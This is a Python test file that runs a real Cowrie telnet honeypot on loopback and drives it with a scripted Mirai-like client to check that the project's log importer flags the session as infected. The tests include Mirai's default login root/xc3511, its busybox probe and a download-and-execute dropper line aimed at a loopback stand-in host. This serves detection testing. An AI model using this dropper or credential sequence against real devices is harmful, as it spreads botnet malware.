"""A real Cowrie on loopback, driven by a scripted Mirai-like telnet client, then imported."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from sqlalchemy import Engine, select

from iotnotice.db import session_scope
from iotnotice.db.models import DetectedHost, HoneypotSession
from iotnotice.honeypot import honeypot_verdicts, import_cowrie_logs, merge_into_hosts
from iotnotice.settings import Settings

# Cowrie refuses to run as root (tests run as root here): pretend to be uid 1000, then start
# twistd in the foreground with the cowrie plugin, logging to stdout, no pid file.
LAUNCHER = """
import os, sys
os.getuid = lambda: 1000
from twisted.scripts.twistd import run
sys.argv = ["twistd", "-n", "--pidfile=", "-l", "-", "cowrie"]
run()
"""

IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
NAWS = 31
PROMPTS = (b"# ", b"$ ")


@dataclass
class Cowrie:
    port: int
    json_log: Path
    console: Path
    proc: subprocess.Popen[bytes]

    def stop(self) -> None:
        """SIGTERM (Cowrie flushes and closes its log), then SIGKILL if it hangs."""
        if self.proc.poll() is None:
            os.killpg(self.proc.pid, signal.SIGTERM)
            try:
                self.proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                os.killpg(self.proc.pid, signal.SIGKILL)
                self.proc.wait(timeout=5)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def _write_config(root: Path, port: int) -> Path:
    for sub in ("etc", "log", "state/downloads", "state/tty"):
        (root / sub).mkdir(parents=True, exist_ok=True)
    # First match wins: root only with Mirai's xc3511, one ordinary account, nobody else.
    (root / "etc/userdb.txt").write_text("root:x:xc3511\nroot:x:!*\nalice:x:Correct-Horse-42\n")
    cfg = root / "cowrie.cfg"
    cfg.write_text(
        f"""[honeypot]
hostname = gateway
log_path = {root}/log
state_path = {root}/state
download_path = {root}/state/downloads
ttylog_path = {root}/state/tty
etc_path = {root}/etc
logtype = plain
idle_timeout = 30
authentication_timeout = 30

[ssh]
enabled = false

[telnet]
enabled = true
listen_endpoints = tcp:{port}:interface=127.0.0.1

[output_jsonlog]
enabled = true
logfile = {root}/log/cowrie.json
"""
    )
    return cfg


def _wait_listening(proc: subprocess.Popen[bytes], console: Path) -> None:
    # Watch Cowrie's console rather than connecting: a probe would log a session of its own.
    deadline = time.monotonic() + 45
    while time.monotonic() < deadline:
        if b"Ready to accept Telnet connections" in console.read_bytes():
            return
        if proc.poll() is not None:
            pytest.fail(f"Cowrie exited ({proc.returncode}): {console.read_text()[-2000:]}")
        time.sleep(0.1)
    pytest.fail(f"Cowrie did not listen within 45 s: {console.read_text()[-2000:]}")


@pytest.fixture
def cowrie(tmp_path: Path) -> Iterator[Cowrie]:
    """A real Cowrie (from PyPI) with telnet on a free loopback port; killed at teardown."""
    root = tmp_path / "cowrie"
    port = _free_port()
    cfg = _write_config(root, port)
    env = {k: v for k, v in os.environ.items() if not k.startswith("COWRIE_")}
    env["COWRIE_CONFIG_PATH"] = str(cfg)
    console = root / "console.log"
    with console.open("wb") as out:
        # Cowrie 3.1 reads ./cowrie.cfg, so it runs in its own directory.
        proc = subprocess.Popen(
            [sys.executable, "-c", LAUNCHER],
            cwd=root,
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
            start_new_session=True,
        )
    run = Cowrie(port, root / "log/cowrie.json", console, proc)
    try:
        _wait_listening(proc, console)
        yield run
    finally:
        run.stop()


class MiraiTelnet:
    """A telnet client that negotiates options as Mirai's scanner does, over plain sockets."""

    def __init__(self, port: int) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.settimeout(0.3)
        self.seen = b""

    def _negotiate(self, data: bytes) -> bytes:
        """Answer IAC commands (DO NAWS -> WILL NAWS 80x24, DO -> WONT, WILL -> DO); keep text."""
        out, text, i = bytearray(), bytearray(), 0
        while i < len(data):
            if data[i] != IAC or i + 1 >= len(data):
                text.append(data[i])
                i += 1
                continue
            cmd = data[i + 1]
            if cmd == SB:
                end = data.find(bytes([IAC, SE]), i)
                i = len(data) if end < 0 else end + 2
                continue
            if cmd in (DO, DONT, WILL, WONT) and i + 2 < len(data):
                opt = data[i + 2]
                if cmd == DO and opt == NAWS:
                    out += bytes([IAC, WILL, NAWS, IAC, SB, NAWS, 0, 80, 0, 24, IAC, SE])
                else:
                    # A refusal is acknowledged in kind, so the server's pending option settles.
                    answer = {DO: WONT, WILL: DO, WONT: DONT, DONT: WONT}[cmd]
                    out += bytes([IAC, answer, opt])
                i += 3
                continue
            i += 2
        if out:
            self.sock.sendall(bytes(out))
        return bytes(text)

    def expect(self, *needles: bytes, timeout: float = 10.0) -> bytes:
        """Read until one of ``needles`` arrives; fail the test if it does not."""
        buf = b""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                data = self.sock.recv(4096)
            except TimeoutError:
                continue
            if not data:
                break
            buf += self._negotiate(data)
            if any(n in buf for n in needles):
                self.seen += buf
                return buf
        pytest.fail(f"no {needles!r} from Cowrie; got {buf[-300:]!r}")

    def login(self, user: str, password: str) -> bytes:
        self.expect(b"ogin")
        self.sock.sendall(user.encode() + b"\r\n")
        self.expect(b"assword")
        self.sock.sendall(password.encode() + b"\r\n")
        return self.expect(*PROMPTS)

    def run(self, line: str) -> bytes:
        self.sock.sendall(line.encode() + b"\r\n")
        return self.expect(*PROMPTS)

    def close(self) -> None:
        self.sock.sendall(b"exit\r\n")
        time.sleep(0.2)
        self.sock.close()


MIRAI_DROPPER = (
    "cd /tmp || cd /var/run; wget http://127.0.0.1:9/bins/mirai.arm7 -O .m; chmod 777 .m; ./.m"
)


def test_cowrie_mirai_session_is_infected(
    cowrie: Cowrie, settings: Settings, engine: Engine
) -> None:
    """Mirai's login, escapes, busybox probe and dropper against a real Cowrie mean infected."""
    bot = MiraiTelnet(cowrie.port)
    bot.login("root", "xc3511")
    for line in ("enable", "system", "shell", "sh"):
        bot.run(line)
    assert b"MIRAI: applet not found" in bot.run("/bin/busybox MIRAI")
    bot.run(MIRAI_DROPPER)
    bot.close()
    time.sleep(0.3)
    cowrie.stop()

    summary = import_cowrie_logs(settings, engine, [cowrie.json_log])
    assert summary.ok, summary.files[0].problem
    assert (summary.files[0].sessions, summary.infected_sources) == (1, ["127.0.0.1"])
    with session_scope(engine) as db:
        row = db.scalars(select(HoneypotSession)).one()
    assert (row.verdict, row.family, row.variant) == ("infected", "mirai", "MIRAI")
    assert (row.username, row.password, row.confidence) == ("root", "xc3511", 0.99)
    assert [c["input"] for c in row.commands][:5] == [
        "enable",
        "system",
        "shell",
        "sh",
        "/bin/busybox MIRAI",
    ]
    assert any("wget http://127.0.0.1:9/bins/mirai.arm7" in c["input"] for c in row.commands)

    (verdict,) = honeypot_verdicts(engine)
    assert (verdict.ip, verdict.session) == ("127.0.0.1", row.session)
    assert verdict.evidence["credentials"] == "root/xc3511"
    assert merge_into_hosts(settings, engine).created == 1
    with session_scope(engine) as db:
        host = db.scalars(select(DetectedHost)).one()
    assert (host.ip, host.classification, host.family) == ("127.0.0.1", "infected", "mirai")
    assert (host.evidence["rule"], host.evidence["session"]) == ("honeypot", row.session)
    assert host.ports == "23/tcp"


def test_cowrie_ordinary_login_is_not_infected(
    cowrie: Cowrie, settings: Settings, engine: Engine
) -> None:
    """A person logging into a real Cowrie with non-IoT credentials and looking around is clean."""
    person = MiraiTelnet(cowrie.port)
    person.login("alice", "Correct-Horse-42")
    for line in ("ls -la", "uname -a", "cat /etc/os-release", "df -h"):
        person.run(line)
    person.close()
    time.sleep(0.3)
    cowrie.stop()

    summary = import_cowrie_logs(settings, engine, [cowrie.json_log])
    assert summary.ok, summary.files[0].problem
    assert (summary.files[0].sessions, summary.infected_sources) == (1, [])
    with session_scope(engine) as db:
        row = db.scalars(select(HoneypotSession)).one()
    assert (row.username, row.verdict, row.confidence) == ("alice", "clean", 0.0)
    assert [c["input"] for c in row.commands][:2] == ["ls -la", "uname -a"]
    assert honeypot_verdicts(engine) == []
    assert merge_into_hosts(settings, engine).created == 0
